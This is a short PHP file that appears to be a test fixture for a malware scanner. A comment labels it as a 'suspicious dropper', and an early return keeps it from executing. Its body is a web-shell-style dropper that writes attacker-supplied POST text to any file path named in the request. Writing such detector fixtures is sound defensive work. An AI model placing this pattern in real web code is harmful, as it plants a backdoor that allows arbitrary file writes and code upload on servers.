<?php return; // want: suspicious dropper php.write.request
$h = fopen($_POST['file'], 'w');
fwrite($h, stripslashes($_POST['text']));
fclose($h);
